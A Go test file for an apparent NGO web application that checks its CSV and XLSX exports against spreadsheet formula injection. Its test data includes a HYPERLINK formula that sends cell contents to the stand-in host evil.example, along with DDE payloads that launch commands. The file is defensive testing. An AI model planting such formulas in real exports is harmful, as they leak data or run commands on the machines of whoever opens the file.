package web

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"gorm.io/gorm"

	"github.com/lantern-ngo/lantern/app/report/reporttest"
	"github.com/lantern-ngo/lantern/app/testutil"
	"github.com/lantern-ngo/lantern/app/user"
)

// hostileCells are values a participant or a staff member may type that a
// spreadsheet would run as formulas (CSV injection).
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Click")`,
	"+1",
	"-2",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"-2+3+cmd|' /C calc'!A0",
	"=1+1",
}

// makeHostile puts hostile values in every free-text field the exports
// show: participants' names and organisations, event titles, city and
// partner names, staff names, anonymous quiz codes, competency names.
func makeHostile(t *testing.T, db *gorm.DB) {
	t.Helper()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	h := func(i int) string { return hostileCells[i%len(hostileCells)] }
	text := func(s string) string {
		b, _ := json.Marshal(map[string]string{"vi": s, "fr": s, "en": s})
		return string(b)
	}
	var regIDs []uint
	must(db.Table("registrations").Order("id").Pluck("id", &regIDs).Error)
	for i, id := range regIDs {
		must(db.Exec("UPDATE registrations SET name = ?, organisation = ? WHERE id = ?", h(i), h(i+3), id).Error)
	}
	var trIDs []uint
	must(db.Table("event_translations").Order("id").Pluck("id", &trIDs).Error)
	for i, id := range trIDs {
		must(db.Exec("UPDATE event_translations SET title = ? WHERE id = ?", h(i+1), id).Error)
	}
	var cityIDs []uint
	must(db.Table("cities").Order("id").Pluck("id", &cityIDs).Error)
	for i, id := range cityIDs {
		must(db.Exec("UPDATE cities SET name = ? WHERE id = ?", text(h(i+2)), id).Error)
	}
	must(db.Exec("UPDATE partners SET name = ?", text(h(3))).Error)
	must(db.Exec("UPDATE users SET name = ? WHERE id = 9001", h(4)).Error)
	must(db.Exec("UPDATE users SET name = ? WHERE id = 9002", h(5)).Error)
	must(db.Exec("UPDATE quiz_attempts SET anon_code = ? WHERE anon_code IS NOT NULL", h(6)).Error)
	must(db.Exec(`INSERT INTO competencies (code, position, name, active, updated_at) VALUES ('hostile', 1, ?, ?, ?)`,
		text(h(7)), true, reporttest.Now).Error)
}

// TestExportsNeutraliseFormulas runs every CSV and XLSX export of the
// application on data whose free-text fields hold formulas: no CSV cell may
// start a formula (each hostile value comes out with a leading apostrophe),
// and no XLSX cell is a formula (the values stay plain strings, as typed).
func TestExportsNeutraliseFormulas(t *testing.T) {
	testutil.ForEachDB(t, func(t *testing.T, db *gorm.DB) {
		ta, ds := dashboardApp(t, db)
		makeHostile(t, db)
		c := ta.client()
		c.login(testutil.Staff(t, db, user.RoleOrganiser))
		hostile := map[string]bool{}
		for _, h := range hostileCells {
			hostile[h] = true
		}
		regs := "/en/staff/events/" + itoa(int(ds.Events["E1"].ID)) + "/registrations/export"
		type export struct {
			name string
			get  func(format string) *http.Response
			// free: the export shows free text (so hostile values must be in it).
			free bool
		}
		getter := func(path string) func(string) *http.Response {
			return func(format string) *http.Response { return c.get(path + "." + format) }
		}
		personal := func(dataset string) func(string) *http.Response {
			return func(format string) *http.Response {
				return c.post("/en/staff/dashboard/export", url.Values{"dataset": {dataset}, "format": {format}, "personal": {"1"}})
			}
		}
		exports := []export{
			{"events", getter("/en/staff/dashboard/export/events"), true},
			{"attendance", getter("/en/staff/dashboard/export/attendance"), true},
			{"quizzes", getter("/en/staff/dashboard/export/quizzes"), true},
			{"coaching", getter("/en/staff/dashboard/export/coaching"), false},
			{"attendance personal", personal("attendance"), true},
			{"quizzes personal", personal("quizzes"), true},
			{"coaching personal", personal("coaching"), true},
			{"event registrations", func(format string) *http.Response {
				return c.post(regs, url.Values{"format": {format}})
			}, true},
			{"coaching figures", getter("/en/staff/coaching/figures"), true},
		}
		for _, x := range exports {
			// CSV: every cell is checked.
			resp := x.get("csv")
			b := body(t, resp, http.StatusOK)
			if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") || !bytes.HasPrefix(b, []byte("\ufeff")) {
				t.Errorf("%s: content type %q, BOM %v", x.name, ct, bytes.HasPrefix(b, []byte("\ufeff")))
			}
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
			r.FieldsPerRecord = -1
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", x.name, err)
			}
			neutralised := 0
			for i, row := range rows {
				for j, cell := range row {
					if hostile[cell] {
						t.Errorf("%s csv row %d col %d: %q written as typed", x.name, i, j, cell)
						continue
					}
					if strings.HasPrefix(cell, "'") && hostile[cell[1:]] {
						neutralised++
						continue
					}
					if s := strings.TrimLeft(cell, " "); s != "" && strings.ContainsRune("=+-@\t\r\n", rune(s[0])) {
						if _, err := strconv.ParseFloat(s, 64); err != nil && !isE164(s) {
							t.Errorf("%s csv row %d col %d: %q starts a formula", x.name, i, j, cell)
						}
					}
				}
			}
			if x.free && neutralised == 0 {
				t.Errorf("%s csv: no hostile value reached the export: %q", x.name, rows)
			}

			// XLSX: plain strings, never formulas.
			resp = x.get("xlsx")
			checkXLSXPlain(t, x.name, body(t, resp, http.StatusOK), hostile, x.free)
		}
		checkXLSXPlain(t, "donor report", body(t, c.get("/en/staff/dashboard/donor.xlsx"), http.StatusOK), hostile, true)
	})
}

func isE164(s string) bool {
	if len(s) < 8 || s[0] != '+' {
		return false
	}
	_, err := strconv.ParseUint(s[1:], 10, 64)
	return err == nil
}

// checkXLSXPlain fails when a cell of the workbook is a formula, and when
// free text should be there but no hostile value came out as typed.
func checkXLSXPlain(t *testing.T, name string, b []byte, hostile map[string]bool, free bool) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("%s xlsx: %v", name, err)
	}
	defer f.Close()
	asTyped := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatalf("%s xlsx %s: %v", name, sheet, err)
		}
		for i, row := range rows {
			for j, v := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
					t.Errorf("%s xlsx %s!%s: formula %q (%v)", name, sheet, cell, formula, err)
				}
				if hostile[v] {
					asTyped++
				}
			}
		}
	}
	if free && asTyped == 0 {
		t.Errorf("%s xlsx: no hostile value kept as typed", name)
	}
}
